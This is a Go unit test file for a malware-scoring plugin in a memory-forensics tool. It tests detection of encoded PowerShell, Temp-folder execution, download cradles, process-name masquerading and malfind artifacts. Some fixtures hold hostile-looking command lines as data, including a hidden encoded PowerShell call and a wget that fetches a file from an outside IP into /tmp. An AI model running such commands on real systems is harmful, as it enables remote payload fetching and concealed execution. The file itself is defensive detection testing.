package plugin

import (
	"reflect"
	"testing"

	"github.com/gzhole/memscope/internal/model"
)

func TestSuspiciousReasons(t *testing.T) {
	tests := []struct {
		name       string
		location   string
		invocation string
		want       []string
	}{
		{"all three in order", "temp.exe", "powershell -enc base64", []string{ReasonTempLocation, ReasonPowerShell, ReasonBase64}},
		{"location only", "C:\\Windows\\Temp\\x.exe", "x.exe", []string{ReasonTempLocation}},
		{"powershell without encoding", "powershell.exe", "powershell.exe -File run.ps1", []string{ReasonPowerShell}},
		{"long encoded flag", "ps.exe", "pwsh -EncodedCommand SQBFAFgA", []string{ReasonBase64}},
		{"short -e outside powershell", "bash", "bash -e deploy.sh", nil},
		{"clean", "notepad.exe", "notepad.exe", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SuspiciousReasons(tt.location, tt.invocation)
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("SuspiciousReasons(%q, %q) = %v, expected %v", tt.location, tt.invocation, got, tt.want)
			}
		})
	}
}

func TestThreatLevel(t *testing.T) {
	tests := []struct {
		score float64
		want  string
	}{
		{0.9, "high"},
		{0.8, "high"},
		{0.6, "medium"},
		{0.5, "medium"},
		{0.3, "low"},
		{0, "low"},
	}
	for _, tt := range tests {
		if got := ThreatLevel(tt.score); got != tt.want {
			t.Errorf("ThreatLevel(%v) = %s, expected %s", tt.score, got, tt.want)
		}
	}
}

func TestConfidenceScore(t *testing.T) {
	if got := ConfidenceScore(0, 0, 0); got != 0 {
		t.Errorf("expected 0, got %v", got)
	}
	if got := ConfidenceScore(3, 1, 1); got != 0.8 {
		t.Errorf("expected 0.8, got %v", got)
	}
	if got := ConfidenceScore(10, 5, 5); got != 1 {
		t.Errorf("expected score capped at 1, got %v", got)
	}
}

func TestMalwareScorer_CleanProcess(t *testing.T) {
	res := &model.AnalysisResult{Processes: []model.Process{
		{PID: 4, Name: "notepad.exe", CommandLine: `notepad.exe C:\notes.txt`},
	}}
	out := NewMalwareScorer().Analyze(res)

	if n := len(out["suspicious_processes"].([]SuspiciousProcess)); n != 0 {
		t.Errorf("expected no suspicious processes, got %d", n)
	}
	if out["confidence_score"].(float64) != 0 || out["threat_level"] != "low" {
		t.Errorf("unexpected score %v / %v", out["confidence_score"], out["threat_level"])
	}
}

func TestMalwareScorer_EncodedPowerShell(t *testing.T) {
	res := &model.AnalysisResult{Processes: []model.Process{
		{PID: 200, Name: "powershell.exe", CommandLine: "powershell.exe -NoP -w hidden -enc SQBFAFgA"},
	}}
	out := NewMalwareScorer().Analyze(res)

	procs := out["suspicious_processes"].([]SuspiciousProcess)
	if len(procs) != 1 {
		t.Fatalf("expected 1 suspicious process, got %v", procs)
	}
	want := []string{ReasonPowerShell, ReasonBase64, ReasonDualUse, ReasonHiddenWindow}
	if !reflect.DeepEqual(procs[0].Reasons, want) {
		t.Errorf("expected reasons %v, got %v", want, procs[0].Reasons)
	}

	indicators := out["malware_indicators"].([]MalwareIndicator)
	if len(indicators) != 4 {
		t.Errorf("expected 4 indicators, got %v", indicators)
	}
	if indicators[0].PID != 200 || indicators[0].Type != "powershell" {
		t.Errorf("unexpected first indicator %+v", indicators[0])
	}
	// 4 indicators * 0.1 + 1 process * 0.2
	if out["confidence_score"].(float64) != 0.6 || out["threat_level"] != "medium" {
		t.Errorf("unexpected score %v / %v", out["confidence_score"], out["threat_level"])
	}
}

func TestMalwareScorer_TempExecution(t *testing.T) {
	res := &model.AnalysisResult{Processes: []model.Process{
		{PID: 300, Name: "temp_dropper.exe", CommandLine: `C:\Users\a\AppData\Local\Temp\temp_dropper.exe`},
	}}
	out := NewMalwareScorer().Analyze(res)

	procs := out["suspicious_processes"].([]SuspiciousProcess)
	if len(procs) != 1 || !reflect.DeepEqual(procs[0].Reasons, []string{ReasonTempLocation}) {
		t.Errorf("unexpected suspicious processes %+v", procs)
	}
}

func TestMalwareScorer_DownloadCradle(t *testing.T) {
	res := &model.AnalysisResult{Processes: []model.Process{
		{PID: 7, Name: "updater", CommandLine: "/bin/sh -c 'wget http://203.0.113.9/x -O /tmp/x'"},
	}}
	out := NewMalwareScorer().Analyze(res)

	found := false
	for _, ind := range out["malware_indicators"].([]MalwareIndicator) {
		if ind.Type == "download_cradle" && ind.Severity == "high" {
			found = true
		}
	}
	if !found {
		t.Error("expected a download_cradle indicator")
	}
}

func TestMalwareScorer_Masquerade(t *testing.T) {
	res := &model.AnalysisResult{Processes: []model.Process{
		{PID: 666, Name: "svch\u043Est.exe"},
	}}
	out := NewMalwareScorer().Analyze(res)

	procs := out["suspicious_processes"].([]SuspiciousProcess)
	if len(procs) != 1 || procs[0].Reasons[0] != ReasonMasquerade {
		t.Errorf("expected masquerade hit, got %+v", procs)
	}
}

func TestMalwareScorer_MalfindArtifacts(t *testing.T) {
	res := &model.AnalysisResult{Artifacts: []model.Artifact{
		{Type: "malfind", Description: "PAGE_EXECUTE_READWRITE in explorer.exe", Severity: "high"},
		{Type: "yara", Description: "rule hit"},
	}}
	out := NewMalwareScorer().Analyze(res)

	arts := out["suspicious_artifacts"].([]model.Artifact)
	if len(arts) != 1 || arts[0].Type != "malfind" {
		t.Errorf("expected only the malfind artifact, got %v", arts)
	}
	if out["confidence_score"].(float64) != 0.3 || out["threat_level"] != "low" {
		t.Errorf("unexpected score %v / %v", out["confidence_score"], out["threat_level"])
	}
}

func TestTokenize(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`powershell -c "Get-Process | Out-File x"`, []string{"powershell", "-c", "Get-Process | Out-File x"}},
		{"a  b\tc", []string{"a", "b", "c"}},
		{"", nil},
	}
	for _, tt := range tests {
		if got := Tokenize(tt.in); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Tokenize(%q) = %q, expected %q", tt.in, got, tt.want)
		}
	}
}
